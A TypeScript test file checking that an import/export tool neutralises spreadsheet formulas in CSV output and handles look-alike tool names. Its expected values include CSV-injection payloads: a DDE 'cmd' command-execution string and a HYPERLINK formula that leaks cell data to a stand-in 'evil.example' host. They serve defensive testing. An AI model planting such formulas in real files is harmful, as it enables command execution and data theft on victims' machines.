/**
 * Issue #14 classes 7 and 8 (corpus and exact results: tests/fixtures/bad-inputs/README.md, section
 * "CSV formulas and look-alike tools"): every CSV we write neutralises spreadsheet formulas and reads
 * back losslessly; a tool name that looks like a stored one is mapped or accepted per name.
 */
import { withDb } from '../helpers/db';
import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { main } from '../../../src/cli/main';
import { findNearMissTools, rejectedRowsCsv } from '../../../src/core/import';
import type { Repositories } from '../../../src/core/repositories';
import { createInThreadClient, type Client } from '../../../src/rpc';
import type { ImportApi } from '../../../src/app/import/api';
import { createSend } from '../../../src/ui/send';
import type { DataApi } from '../../../src/ui/workers';
import { createImportHandlers } from '../../../src/app/import/handlers';
import { ImportFlow } from '../../../src/ui/import-flow.svelte';
import { BAD, chunked, importFile, importSource } from './helpers';

const bad = (name: string) => resolve(BAD, name);
const KNOWN = ['DALLE_3', 'Midjourney_6'];

describe('formula cells in the rejected-rows download', () => {
  it('formula-cells.csv: every formula-like cell gets a leading quote; -1 stays a number', async () => {
    const { summary, sink } = await importFile(bad('formula-cells.csv'));
    expect(sink.rows.map((r) => [r.prompt, r.score])).toEqual([
      ["+cmd|' /C calc'!A0", 4],
      ['-1', -1],
      ['Write a limerick', 5],
    ]);
    expect(rejectedRowsCsv(summary.errors)).toBe(
      [
        'prompt,model,score,error',
        `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for a prize"")",gpt-4,excellent,"row 1, column score: score 'excellent' is not a number"`,
        `"'@SUM(1+1)*cmd|' /C calc'!A0","'-claude",bad,"row 3, column score: score 'bad' is not a number"`,
        `"'  =1+1",gpt-4,x,"row 5, column score: score 'x' is not a number"`,
      ].join('\n'),
    );
  });

  it('formula-cells.csv: the download imports again with the original cells (the mark is removed)', async () => {
    const first = await importFile(bad('formula-cells.csv'));
    const again = await importSource(chunked(rejectedRowsCsv(first.summary.errors)), 'formula-cells-rejected.csv', {
      mapping: { prompt: 'prompt', tool: 'model', score: 'score' },
      preset: 'generic',
    });
    const strip = (raw: Record<string, unknown> | undefined) => ({ prompt: raw?.prompt, model: raw?.model, score: raw?.score });
    expect(again.summary.errors.map((e) => strip(e.raw))).toEqual(first.summary.errors.map((e) => strip(e.raw)));
    expect(again.summary.errors.map((e) => e.raw?.prompt)).toEqual([
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click for a prize")',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '  =1+1',
    ]);
  });

  it('formula-keys.jsonl: formula-like JSON keys (the header) and values are neutralised too', async () => {
    const { summary } = await importFile(bad('formula-keys.jsonl'));
    expect(summary.accepted).toBe(1);
    expect(rejectedRowsCsv(summary.errors)).toBe(
      [
        `prompt,model,score,"'=HYPERLINK(""http://evil.example"")",line,error`,
        `"'=2+5",gpt-4,n/a,"'@x",,"row 2, column score: score 'n/a' is not a number"`,
        `,,,,"{""prompt"":""-exec"",""model"":""=tool"",""score"":3","line 3: invalid JSON: the text ends before the object is closed (a '}' is missing) (line 3, column 44)"`,
        `Name three rivers,"'+claude","'-",,,"row 4, column score: score '-' is not a number"`,
      ].join('\n'),
    );
    // A spreadsheet-style reader sees no cell starting with a trigger.
    const cells = Papa.parse<string[]>(rejectedRowsCsv(summary.errors)).data.flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  });
});

describe('services: export and import through the real import service', () => {
  let repos: Repositories;
  let client: Client<ImportApi>;
  withDb('csv-export', (t) => {
    repos = t.repos;
    client = createInThreadClient(createImportHandlers(repos, undefined, { locks: null }));
  });
  const file = (name: string, text = readFileSync(bad(name))) => new File([text], name);

  it('formula-roundtrip.csv: experiences with formula-like prompts export neutralised and import back losslessly', async () => {
    await client.call('import', { file: file('formula-roundtrip.csv'), datasetName: 'Formulas' });
    const before = await repos.experiences.byDataset('formulas');
    const text = await (await client.call('exportExperiences', { datasetId: 'formulas', format: 'csv' })).text();
    expect(text.split('\n').slice(1)).toEqual([
      `formulas,1,"'=1+1",gpt-4,4,default,true,human,,"'+good",false,,,,`,
      `formulas,2,"'=already marked",gpt-4,3,default,true,human,,"'-meh",false,,,,`,
      `formulas,3,"'@mention the team",gpt-4,5,default,true,human,,tab\tinside,false,,,,`,
      `formulas,4,-1,gpt-4,2,default,true,human,,"'=SUM(A1:A9)",false,,,,`,
      `formulas,5,'plain quote,gpt-4,1,default,true,human,,"''-1",false,,,,`,
    ]);
    const again = await client.call('import', { file: new File([text], 'formulas-export.csv'), datasetName: 'Formulas again' });
    expect(again.summary).toMatchObject({ preset: 'generic', accepted: 5, rejected: 0 });
    const strip = (rows: typeof before) =>
      rows.map(({ taskId, prompt, toolId, score, feedback }) => ({ taskId, prompt, toolId, score, feedback })).sort((a, b) => a.taskId.localeCompare(b.taskId));
    expect(strip(await repos.experiences.byDataset('formulas-again'))).toEqual(strip(before));
    expect(strip(before).map((r) => [r.prompt, r.feedback])).toEqual([
      ['=1+1', '+good'],
      ['=already marked', '-meh'],
      ['@mention the team', 'tab\tinside'],
      ['-1', '=SUM(A1:A9)'],
      ["'plain quote", "'-1"],
    ]);
  });

  it('near-miss-tools.jsonl: the scan lists each look-alike; "same as" stores rows under the known tool, "new" creates it', async () => {
    await client.call('import', { file: new File(['prompt,model,score\nA red cube,DALLE_3,4\nA lamp,Midjourney_6,3\n'], 'known.csv'), datasetName: 'Known' });
    const req = { file: file('near-miss-tools.jsonl'), datasetName: 'Shapes' };
    expect(await client.call('nearMissTools', req)).toEqual([
      { name: 'dalle', suggestion: 'DALLE_3', rows: 2 },
      { name: 'midjourney-6', suggestion: 'Midjourney_6', rows: 1 },
    ]);
    const out = await client.call('import', { ...req, toolChoices: { map: new Map([['dalle', 'DALLE_3']]), newTools: new Set(['midjourney-6']) } });
    expect(out.summary).toMatchObject({ accepted: 5, rejected: 0 });
    expect(out.summary.nearMissTools).toBeUndefined();
    expect(out.summary.tools.DALLE_3).toMatchObject({ accepted: 3 });
    expect((await repos.experiences.get('shapes|DALLE_3|2|default'))?.prompt).toBe('A blue sphere');
    expect((await repos.tools.list()).map((t) => t.id).sort()).toEqual(['DALLE_3', 'Midjourney_6', 'SDXL_Turbo', 'midjourney-6']);
    // Decided names are no longer look-alikes.
    expect(await client.call('nearMissTools', { ...req, toolChoices: { map: new Map([['dalle', 'DALLE_3']]), newTools: new Set(['midjourney-6']) } })).toEqual(
      [],
    );
  });

  it('the import dialog state: the scan after the preview lists the names, the choices reach the import', async () => {
    await client.call('import', { file: new File(['prompt,model,score\nA red cube,DALLE_3,4\nA lamp,Midjourney_6,3\n'], 'known.csv'), datasetName: 'Known' });
    const flow = new ImportFlow(createSend({ data: () => client as unknown as Client<DataApi> }), () => {});
    await flow.choose(file('near-miss-tools.jsonl'));
    expect(flow.nearMisses.map((m) => m.name)).toEqual(['dalle', 'midjourney-6']);
    expect(flow.checkingTools).toBe(false);
    flow.decideTool('dalle', 'map');
    // Undecided: midjourney-6's row is refused as before.
    await flow.start();
    expect(flow.outcome?.summary).toMatchObject({ accepted: 4, rejected: 1 });
    expect(flow.outcome?.summary.tools.DALLE_3).toMatchObject({ accepted: 3 });
    expect(flow.outcome?.summary.errors.map((e) => e.reason)).toEqual(["unknown tool 'midjourney-6': did you mean Midjourney_6?"]);
  });

  it('an empty store has nothing to resemble: the scan does not read the file', async () => {
    expect(await client.call('nearMissTools', { file: file('near-miss-tools.jsonl') })).toEqual([]);
  });
});

describe('look-alike tools in the core import', () => {
  it('near-miss-tools.jsonl without a choice: the rows are refused with a suggestion and listed', async () => {
    const { summary } = await importFile(bad('near-miss-tools.jsonl'), { knownTools: KNOWN });
    expect(summary.errors.map((e) => [e.row, e.column, e.reason])).toEqual([
      [2, 'model', "unknown tool 'dalle': did you mean DALLE_3?"],
      [3, 'model', "unknown tool 'dalle': did you mean DALLE_3?"],
      [4, 'model', "unknown tool 'midjourney-6': did you mean Midjourney_6?"],
    ]);
    expect(summary.nearMissTools).toEqual([
      { name: 'dalle', suggestion: 'DALLE_3', rows: 2 },
      { name: 'midjourney-6', suggestion: 'Midjourney_6', rows: 1 },
    ]);
    expect(
      await findNearMissTools(chunked(readFileSync(bad('near-miss-tools.jsonl'), 'utf8')), {
        fileName: 'near-miss-tools.jsonl',
        datasetId: 'test',
        knownTools: KNOWN,
      }),
    ).toEqual(summary.nearMissTools);
  });

  it('near-miss-tools.jsonl with both choices: every row is accepted; mapped rows count under DALLE_3', async () => {
    const { summary, sink } = await importFile(bad('near-miss-tools.jsonl'), {
      knownTools: KNOWN,
      toolChoices: { map: new Map([['dalle', 'DALLE_3']]), newTools: new Set(['midjourney-6']) },
    });
    expect(summary).toMatchObject({ accepted: 5, rejected: 0 });
    expect(Object.entries(summary.tools).map(([t, v]) => [t, v.accepted])).toEqual([
      ['DALLE_3', 3],
      ['midjourney-6', 1],
      ['SDXL_Turbo', 1],
    ]);
    expect(sink.rows.map((r) => r.id)).toEqual([
      'test|DALLE_3|1|default',
      'test|DALLE_3|2|default',
      'test|DALLE_3|3|default',
      'test|midjourney-6|4|default',
      'test|SDXL_Turbo|5|default',
    ]);
  });

  it('near-miss-collision.csv: a mapped row that repeats a row of the known tool is a duplicate; as a new tool it is not', async () => {
    const mapped = await importFile(bad('near-miss-collision.csv'), { knownTools: KNOWN, toolChoices: { map: new Map([['dalle', 'DALLE_3']]) } });
    expect(mapped.summary.errors.map((e) => [e.row, e.reason])).toEqual([[2, "duplicate of row 1: same task '1', tool 'DALLE_3' and rater 'default'"]]);
    expect(mapped.sink.rows.map((r) => r.id)).toEqual(['test|DALLE_3|1|default', 'test|DALLE_3|2|default']);
    const asNew = await importFile(bad('near-miss-collision.csv'), { knownTools: KNOWN, toolChoices: { newTools: new Set(['dalle']) } });
    expect(asNew.summary).toMatchObject({ accepted: 3, rejected: 0 });
  });
});

describe('toolmem import --known-tools / --tool-map / --new-tool', () => {
  async function cli(args: string[]) {
    let stdout = '';
    let stderr = '';
    const code = await main(['import', '--data', bad('near-miss-tools.jsonl'), ...args], {
      out: (t) => void (stdout += `${t}\n`),
      err: (t) => void (stderr += `${t}\n`),
    });
    return { code, stdout, stderr };
  }

  it('refuses each look-alike name and names exactly the two flags that resolve it', async () => {
    const run = await cli(['--known-tools', 'DALLE_3,Midjourney_6']);
    expect(run.code).toBe(0);
    expect(run.stderr).toBe(
      [
        'Tool names that look like a known tool (their rows were refused):',
        "  'dalle' (2 rows): did you mean 'DALLE_3'? Add --tool-map dalle=DALLE_3 to store these rows under 'DALLE_3', or --new-tool dalle to import 'dalle' as a new tool.",
        "  'midjourney-6' (1 row): did you mean 'Midjourney_6'? Add --tool-map midjourney-6=Midjourney_6 to store these rows under 'Midjourney_6', or --new-tool midjourney-6 to import 'midjourney-6' as a new tool.",
        '',
      ].join('\n'),
    );
  });

  it('applies the flags', async () => {
    const run = await cli(['--known-tools', 'DALLE_3', '--known-tools', 'Midjourney_6', '--tool-map', 'dalle=DALLE_3', '--new-tool', 'midjourney-6', '--json']);
    expect(run.code).toBe(0);
    expect(run.stderr).toBe('');
    const summary = JSON.parse(run.stdout) as { accepted: number; rejected: number; tools: Record<string, { accepted: number }> };
    expect(summary).toMatchObject({ accepted: 5, rejected: 0 });
    expect(summary.tools.DALLE_3?.accepted).toBe(3);
  });

  it.each([
    [['--tool-map', 'dalle'], "--tool-map 'dalle': expected NAME=TOOL, e.g. --tool-map dalle=DALLE_3."],
    [['--tool-map', 'dalle=DALLE_3', '--tool-map', 'dalle=SDXL'], "--tool-map: 'dalle' is mapped twice (to 'DALLE_3' and 'SDXL')."],
    [['--tool-map', 'dalle=DALLE_3', '--new-tool', 'dalle'], "'dalle' is given both --tool-map and --new-tool: choose one."],
  ])('usage error for %j', async (args, message) => {
    const run = await cli(args);
    expect(run.code).toBe(1);
    expect(run.stderr).toContain(message);
  });
});
